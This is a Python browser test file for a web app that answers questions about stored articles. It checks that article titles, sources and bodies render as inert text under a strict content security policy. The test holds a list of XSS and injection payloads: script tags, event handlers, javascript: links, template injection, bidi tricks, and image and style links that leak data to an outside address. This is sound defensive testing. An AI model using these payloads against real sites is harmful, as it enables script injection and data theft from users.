"""Text from outside stays text: nothing in an article, title or answer becomes markup, script or a request."""

import json
import urllib.request
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.page.conftest import serving, watching

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "[click](javascript:window.pwned=1)",
    "![x](http://198.51.100.7/leak?q=secret)",
    "<img src='http://198.51.100.7/pixel.gif'>",
    "<link rel=stylesheet href='http://198.51.100.7/x.css'>",
    "<style>@import 'http://198.51.100.7/y.css'</style>",
    "<base href='http://198.51.100.7/'>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>",
    "<form action='http://198.51.100.7/'><input name=q></form>",
    "'\"><details open ontoggle=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "<math><mtext></table><img src=x onerror=window.pwned=1>",
]


def post(url: str, article: dict[str, str]) -> None:
    request = urllib.request.Request(
        f"{url}/v1/articles", json.dumps(article).encode(), {"content-type": "application/json"}
    )
    urllib.request.urlopen(request).close()


def test_hostile_text_is_shown_and_never_acts(browser: Browser, tmp_path: Path) -> None:
    """Every payload in title, source, url and body: shown as text, no script runs, no request leaves."""
    with serving(tmp_path / "data", samples=False) as url:
        for i, payload in enumerate(PAYLOADS):
            post(url, {
                "id": f"h{i}",
                "title": f"Tillbrook {i} {payload}",
                "source": f"Source {payload}",
                "text": f"Tillbrook {i} raised {i + 2} million dollars from Ostend Capital, said a {payload} filing on 4 May 2024.",
            })  # fmt: skip
        with watching(browser, url) as watched:
            page = watched.page
            page.on("dialog", lambda dialog: watched.errors.append(dialog.message))
            for i in range(len(PAYLOADS)):
                watched.ask(f"How much did Tillbrook {i} raise?")
            expect(page.locator(".turn")).to_have_count(len(PAYLOADS))
            page.locator(".chip").first.click()
            page.locator("#article-body mark").wait_for()
            for i in range(len(PAYLOADS)):
                page.evaluate(f"location.hash = 'article=h{i}&s=0&e=20'")
                expect(page.locator("#article-head h2")).to_contain_text(f"Tillbrook {i}")
            assert page.evaluate("window.pwned") is None
            shown = page.locator("#transcript, #articles, #article-head, #article-body")
            assert shown.locator("script, img, iframe, svg, style, link, base, meta, form, math").count() == 0
            assert page.locator("a[href^='javascript']").count() == 0
            assert page.evaluate(
                "!/[\\u202e\\u2066]/.test(document.getElementById('transcript').textContent)"
            )
        assert watched.errors == []
        assert watched.foreign == []


def test_the_page_allows_no_inline_script(browser: Browser, server: str) -> None:
    """The policy that forbids it is real: an inline script put in by hand does not run."""
    with watching(browser, server) as watched:
        policy = watched.page.request.get(watched.url).headers["content-security-policy"]
        assert "unsafe" not in policy
        assert "script-src 'self'" in policy
        ran = watched.page.evaluate(
            "() => { const s = document.createElement('script'); try { s.text = 'window.ran = 1' } catch { }"
            " document.body.append(s); return window.ran ?? null }"
        )
        assert ran is None
